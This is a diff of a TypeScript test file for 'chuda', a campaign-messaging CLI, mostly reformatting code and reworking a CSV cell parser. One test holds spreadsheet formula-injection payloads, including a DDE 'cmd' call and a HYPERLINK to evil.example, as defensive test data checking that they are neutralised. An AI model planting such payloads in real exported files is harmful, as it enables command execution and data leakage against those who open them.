@@ -69,7 +69,11 @@ function makeRepo(): string {
   writeFileSync(path.join(dir, "chuda.yaml"), YAML);
   mkdirSync(path.join(dir, "campaigns"));
   // `hello` reaches the one member on `outbox` (so that its cost is one send at ¥1.005, which a float rounding makes ¥1.00); `texts` and `reach` all four.
-  const text = [campaign("hello", "outbox", 'name == "王伟"'), campaign("texts", "texts", "member_id is set"), campaign("reach", "contacts", "member_id is set")];
+  const text = [
+    campaign("hello", "outbox", 'name == "王伟"'),
+    campaign("texts", "texts", "member_id is set"),
+    campaign("reach", "contacts", "member_id is set"),
+  ];
   writeFileSync(path.join(dir, "campaigns/c.chuda"), text.join("\n"));
   mkdirSync(path.join(dir, "templates"));
   writeFileSync(path.join(dir, "templates/hello.yaml"), 'file:\n  text: "{{name}}您好"\n');
@@ -84,13 +88,14 @@ function cells(line: string): string[] {
   let quoted = false;
   for (let i = 0; i < line.length; i++) {
     const ch = line[i]!;
-    if (quoted) {
-      if (ch === '"' && line[i + 1] === '"') (cur += '"'), i++;
-      else if (ch === '"') quoted = false;
-      else cur += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ",") out.push(cur), (cur = "");
-    else cur += ch;
+    if (quoted && ch === '"' && line[i + 1] === '"') {
+      cur += '"';
+      i++;
+    } else if (ch === '"') quoted = !quoted;
+    else if (ch === "," && !quoted) {
+      out.push(cur);
+      cur = "";
+    } else cur += ch;
   }
   out.push(cur);
   return out;
@@ -115,7 +120,9 @@ describe("the plan CSV and output folders", () => {
     expect(text).not.toMatch(CLEAR_PHONE);
     // The hostile values are kept (as text), not dropped.
     expect(rows.map((x) => x[2])).toEqual(expect.arrayContaining(["'=cmd|' /C calc'!A0", "'@SUM(1+1)", "'+86138****1234", "138-****-5678"]));
-    expect(rows.map((x) => x[4])).toEqual(expect.arrayContaining(['\'=HYPERLINK("http://evil.example/?x","click")', "'-2+3", "'+86 139 **** 1111", "86136****1111"]));
+    expect(rows.map((x) => x[4])).toEqual(
+      expect.arrayContaining(['\'=HYPERLINK("http://evil.example/?x","click")', "'-2+3", "'+86 139 **** 1111", "86136****1111"]),
+    );
     // The raw file quotes every neutralised cell.
     expect(text).toContain(`"'=cmd|' /C calc'!A0"`);
     for (const row of rows) {
@@ -126,7 +133,11 @@ describe("the plan CSV and output folders", () => {
 
   it("refuses an output path it cannot write before the work, in one line", async () => {
     writeFileSync(path.join(dir, "afile"), "x");
-    for (const args of [["--plan", "afile/plan.csv"], ["--report", "afile/x.html"], ["--plan", "out"]]) {
+    for (const args of [
+      ["--plan", "afile/plan.csv"],
+      ["--report", "afile/x.html"],
+      ["--plan", "out"],
+    ]) {
       const r = await chuda(["simulate", "--members", "members.csv", "--at", AT, ...args], { cwd: dir });
       expect(r.exitCode, args.join(" ")).toBe(2);
       expect(r.stderr).toMatch(new RegExp(`^chuda: ${args[0]} ${args[1]}`, "m"));
@@ -172,7 +183,24 @@ describe("masking in dispatch, status and preview; times in the project's zone",
     // A send whose answer was lost (state unknown), for a member whose key is a phone number.
     const ledger = new Ledger(path.join(dir, ".chuda/state.db"));
     const m = "+86 150 1234 5678";
-    ledger.insertSends([{ key: sendKey("texts", OCC, m, "texts"), campaign: "texts", occurrence: OCC, member: m, channel: "texts", state: "unknown" as never, send_at: Date.UTC(2026, 11, 24, 2), address: "8615012345678", sender: null, content: null, fallbacks: null, vars: null, run_id: 1, updated_at: Date.UTC(2026, 11, 24, 2) }]);
+    ledger.insertSends([
+      {
+        key: sendKey("texts", OCC, m, "texts"),
+        campaign: "texts",
+        occurrence: OCC,
+        member: m,
+        channel: "texts",
+        state: "unknown" as never,
+        send_at: Date.UTC(2026, 11, 24, 2),
+        address: "8615012345678",
+        sender: null,
+        content: null,
+        fallbacks: null,
+        vars: null,
+        run_id: 1,
+        updated_at: Date.UTC(2026, 11, 24, 2),
+      },
+    ]);
     ledger.close();
     const st = await chuda(["status"], { cwd: dir });
     expect(st.exitCode, st.stderr).toBe(0);
@@ -223,7 +251,18 @@ describe("chuda report: money and full-width amounts", () => {
     const d = makeRepo();
     const ledger = new Ledger(path.join(d, ".chuda/state.db"));
     const at = Date.UTC(2026, 11, 24, 2);
-    const base = { campaign: "hello", occurrence: OCC, send_at: at, address: null, sender: null, content: null, fallbacks: null, vars: null, run_id: 1, updated_at: at };
+    const base = {
+      campaign: "hello",
+      occurrence: OCC,
+      send_at: at,
+      address: null,
+      sender: null,
+      content: null,
+      fallbacks: null,
+      vars: null,
+      run_id: 1,
+      updated_at: at,
+    };
     ledger.insertSends([
       { ...base, key: sendKey("hello", OCC, "M1", "outbox"), member: "M1", channel: "outbox", state: "sent" as never },
       { ...base, key: sendKey("hello", OCC, "M2", "-"), member: "M2", channel: "-", state: "held_out" as never },
